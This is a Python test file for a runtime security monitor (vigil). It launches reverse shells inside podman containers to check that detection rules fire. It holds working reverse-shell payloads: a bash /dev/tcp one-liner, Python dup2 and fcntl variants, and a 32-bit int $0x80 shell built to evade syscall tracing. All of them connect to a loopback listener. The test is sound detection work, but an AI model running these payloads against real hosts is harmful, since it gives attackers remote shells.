"""Reverse shells end to end: dup events, the stdio of a process at exec, Falco's
stable rules and vigil's default rules, in real podman containers.

One agent runs with the default rules (rules/vigil_rules.yaml) and then Falco's stable
rules file (falco_rules.yaml from the shared compatibility directory, located as the
unit tests locate it: $VIGIL_FALCO_RULES, else ../shared/compat/ beside the
repository), alerts only, so the kernel prefilter is the one the rules derive. Falco's
file comes second: its "Packet socket created in container" replaces vigil's rule of
the same name, so Falco's own rule is the one that must fire. Every Falco rule loads
(no --skip-unknown-fields).

The busybox test image has neither bash nor python, so the containers bind-mount the
host's /usr read-only (Debian 12 is merged-usr: /usr holds every program and library),
its /usr/lib at /lib and /usr/lib64 at /lib64 (the dynamic loader's path, a symlink
into /lib): the programs are the host's, the processes are the container's (its
namespaces and cgroup). The reverse shells connect to a listener this test runs on
127.0.0.1, so those containers share the host's network namespace (--network host);
the traffic stays on loopback. Each shell's connection is told apart by its client
port, which the listener sees and the alerts show (fd.lport, proc.stdin.name).
A static 32-bit program does the same through the ia32 ABI (dup2, dup3 and fcntl64
by int $0x80), where the raw sys_exit dispatcher must route the calls; the test is
skipped, with the reason, on a kernel that runs no 32-bit code.
"""
import os
import socket
import subprocess
import threading
import time
import uuid

import pytest

import conftest
from conftest import PODMAN, REPO

RULES_FILE = os.path.join(REPO, "rules", "vigil_rules.yaml")
REDIRECT = "Redirect STDOUT/STDIN to Network Connection in Container"
PACKET = "Packet socket created in container"
REVERSE = "Reverse shell"

HOST_USR = ["-v", "/usr:/usr:ro", "-v", "/usr/lib:/lib:ro", "-v", "/usr/lib64:/lib64:ro"]
RUN = PODMAN + ["run", "--rm", "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024"]


def falco_rules():
    path = os.environ.get("VIGIL_FALCO_RULES") or os.path.join(
        os.path.dirname(REPO), "shared", "compat", "falco_rules.yaml")
    assert os.path.exists(path), f"Falco's rules file is missing ({path})"
    return path


@pytest.fixture(scope="module")
def sv(tmp_path_factory):
    conftest._check_can_run()
    v = conftest.Vigil(str(tmp_path_factory.mktemp("vigil-stdio")),
                       ["--rules", RULES_FILE, "--rules", falco_rules()], events=False)
    yield v
    rc = v.stop()
    assert rc == 0, "vigil did not stop cleanly:\n" + v.stderr()


class Listener:
    """A TCP listener on loopback: accepts one connection, notes the client's port,
    sends `exit` (which ends an interactive shell, or a `read`), reads to EOF."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(60)
        self.port = self.sock.getsockname()[1]
        self.client_port = None
        self.data = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        try:
            c, peer = self.sock.accept()
        except OSError:
            return
        self.client_port = peer[1]
        with c:
            c.settimeout(30)
            c.sendall(b"exit\n")
            try:
                while True:
                    d = c.recv(4096)
                    if not d:
                        break
                    self.data += d
            except OSError:
                pass

    def close(self):
        self.thread.join(60)
        self.sock.close()


def container(args, network="none", timeout=120, extra=()):
    p = subprocess.run(RUN + ["--network", network, *extra] + HOST_USR + [conftest.TEST_IMAGE]
                       + args,
                       stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=timeout)
    assert p.returncode == 0, p.stdout.decode()
    return p.stdout.decode()


def reverse_shell(script):
    """Runs script (with PORT replaced) in a container on the host's network; returns
    the listener after the shell has gone."""
    lst = Listener()
    try:
        container(["/usr/bin/bash", "-c", script.replace("PORT", str(lst.port))],
                  network="host")
    finally:
        lst.close()
    assert lst.client_port, "the container never connected"
    return lst


def of(alert, field):
    return alert["output_fields"].get(field)


def redirect_of(lst):
    """Falco's redirect rule for this connection: the dup's socket has its port."""
    return lambda a: a["rule"] == REDIRECT and str(of(a, "fd.lport")) == str(lst.client_port)


def reverse_of(lst):
    name = f"127.0.0.1:{lst.client_port}->127.0.0.1:{lst.port}"
    return lambda a: a["rule"] == REVERSE and of(a, "proc.stdin.name") == name


def barrier(v):
    """Returns once everything before it was evaluated (events go in order)."""
    token = "vigil-e2e-" + uuid.uuid4().hex[:10]
    p = subprocess.run(["grep", "-q", "PRIVATE KEY " + token, "/dev/null"])
    v.wait_alert(lambda a: a["rule"] == "Search for private keys or credentials" and
                 of(a, "proc.cmdline") and token in of(a, "proc.cmdline"), 15, "barrier")
    time.sleep(0.3)
    return p


# client ports of the connections that are reverse shells (the near misses' are not)
POSITIVE = set()


def both_fire(v, lst):
    POSITIVE.add(lst.client_port)
    r = v.wait_alert(redirect_of(lst), 15, f"'{REDIRECT}' for port {lst.client_port}")
    assert of(r, "fd.type") == "ipv4" and of(r, "fd.l4proto") == "tcp", r
    assert str(of(r, "fd.rport")) == str(lst.port), r
    assert of(r, "fd.sip") == "127.0.0.1", r
    s = v.wait_alert(reverse_of(lst), 15, f"'{REVERSE}' for port {lst.client_port}")
    assert of(s, "container.id") not in (None, "host"), s
    return r, s


def test_bash_dev_tcp(sv, busybox_image):
    # the classic: bash's own redirection to /dev/tcp, then an interactive shell on it
    lst = reverse_shell("/usr/bin/bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1")
    r, s = both_fire(sv, lst)
    assert of(r, "evt.type") in ("dup2", "dup3"), r
    assert of(s, "proc.name") == "bash" and of(s, "proc.stdout.type") == "ipv4", s


PY_DUP2 = """/usr/bin/python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "read x"])
'"""


def test_python_dup2(sv, busybox_image):
    lst = reverse_shell(PY_DUP2)
    r, s = both_fire(sv, lst)
    assert of(r, "evt.type") == "dup2", r
    assert of(s, "proc.name") == "sh", s
    assert of(s, "proc.stderr.type") == "ipv4", s


PY_FCNTL = """/usr/bin/python3 -c '
import fcntl, os, socket
s = socket.create_connection(("127.0.0.1", PORT))
for fd in (0, 1, 2):
    os.close(fd)
    assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, fd) == fd
os.execv("/bin/sh", ["sh", "-c", "read x"])
'"""


def test_fcntl_dupfd_evasion(sv, busybox_image):
    # no dup, dup2 or dup3 at all: the socket lands on 0, 1 and 2 through fcntl
    lst = reverse_shell(PY_FCNTL)
    r, s = both_fire(sv, lst)
    assert of(r, "evt.type") == "dup", r
    assert of(s, "proc.name") == "sh", s


# near misses: a socket on fd 5 (not stdio) and a shell with pipes as stdio; a file
# dup2'd onto fd 1 in the same container
PY_NEAR = """/usr/bin/python3 -c '
import os, socket
s = socket.create_connection(("127.0.0.1", PORT))
os.dup2(s.fileno(), 5)
os.write(5, b"near\\n")
os.execv("/bin/sh", ["sh", "-c", "echo piped | cat | sh -c cat"])
' </dev/null | cat; exec 1>/dev/shm/vigil-near; echo file
"""


def test_near_misses(sv, busybox_image):
    lst = reverse_shell(PY_NEAR)
    assert b"near" in lst.data
    barrier(sv)
    ports = {str(p) for p in POSITIVE}
    # every alert of either rule so far is one of the reverse shells' (the file dup2'd
    # onto fd 1 and the pipes would raise others)
    bad = [a for a in sv.alerts() if a["rule"] == REDIRECT and str(of(a, "fd.lport")) not in ports]
    assert not bad, f"near miss raised '{REDIRECT}': {bad[0]['output']}"
    bad = [a for a in sv.alerts() if a["rule"] == REVERSE and
           (of(a, "proc.stdin.name") or "").split("->")[0].split(":")[-1] not in ports]
    assert not bad, f"near miss raised '{REVERSE}': {bad[0]['output']}"


def test_host_reverse_shell(sv):
    # the default rule is for hosts too; Falco's redirect rule is for containers only
    lst = Listener()
    p = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{lst.port} 0>&1"],
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    p.wait(60)
    lst.close()
    s = sv.wait_alert(reverse_of(lst), 15, f"'{REVERSE}' on the host")
    assert of(s, "container.id") in (None, "host"), s
    barrier(sv)
    assert not [a for a in sv.alerts() if redirect_of(lst)(a)], "the host's shell is no container's"


def test_packet_socket_in_container(sv, busybox_image):
    # this podman's default capabilities leave CAP_NET_RAW out: granted here, so the
    # socket is really made (the container has no network of its own)
    out = container(["/usr/bin/python3", "-c", "import os, socket; s = socket.socket("
                     "socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); print(os.getpid(), "
                     "s.fileno())"], extra=["--cap-add", "NET_RAW"])
    _, fd = out.split()
    a = sv.wait_alert(lambda a: a["rule"] == PACKET and of(a, "proc.name") == "python3", 15,
                      f"'{PACKET}'")
    assert "Packet socket was created in a container" in a["output"], a  # Falco's own
    # python makes it close-on-exec: SOCK_RAW|SOCK_CLOEXEC
    assert of(a, "evt.args") == f"fd={fd} domain=AF_PACKET type=524291 proto=768 flags=O_CLOEXEC", a


# A static 32-bit program with no libc, every call through int $0x80 (the ia32 ABI,
# which no per-syscall tracepoint sees): it connects to PORT, puts the socket on fd 0
# with dup2, fd 1 with dup3 and fd 2 with fcntl64(F_DUPFD) after closing 2, then execs
# /bin/sh on it.
IA32_SHELL = r"""
static long sys(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}

__attribute__((force_align_arg_pointer)) void _start(void)
{
	static const unsigned char sa[16] = {2, 0, (PORT >> 8) & 0xff, PORT & 0xff, 127, 0, 0, 1};
	static char *argv[] = {"sh", "-c", "read x", 0};
	long fd = sys(359, 2, 1, 0);		/* socket(AF_INET, SOCK_STREAM, 0) */

	sys(362, fd, (long)sa, sizeof(sa)); /* connect */
	sys(63, fd, 0, 0);		    /* dup2 */
	sys(330, fd, 1, 0);		    /* dup3 */
	sys(6, 2, 0, 0);		    /* close */
	sys(221, fd, 0, 2);		    /* fcntl64(F_DUPFD, 2) */
	sys(11, (long)"/bin/sh", (long)argv, 0);
	sys(1, 1, 0, 0);
}
"""


def test_ia32_reverse_shell(sv, busybox_image, tmp_path):
    import test_rules  # its probe of whether this kernel runs 32-bit code at all
    off = test_rules.ia32_refused(str(tmp_path))
    if off:
        pytest.skip(off)
    lst = Listener()
    src, exe = str(tmp_path / "shell32.c"), str(tmp_path / "shell32")
    with open(src, "w") as f:
        f.write(IA32_SHELL)
    subprocess.run(["clang", "-m32", "-nostdlib", "-static", "-ffreestanding", "-fno-pic", "-O1",
                    f"-DPORT={lst.port}", "-o", exe, src], check=True)
    try:
        container([f"/{os.path.basename(exe)}"], network="host",
                  extra=["-v", f"{exe}:/{os.path.basename(exe)}:ro"])
    finally:
        lst.close()
    assert lst.client_port, "the 32-bit program never connected"
    POSITIVE.add(lst.client_port)
    for t in ("dup2", "dup3", "dup"):
        sv.wait_alert(lambda a: redirect_of(lst)(a) and of(a, "evt.type") == t, 15,
                      f"'{REDIRECT}' for the ia32 {t}")
    s = sv.wait_alert(reverse_of(lst), 15, f"'{REVERSE}' for the 32-bit program's shell")
    assert of(s, "proc.name") == "sh", s
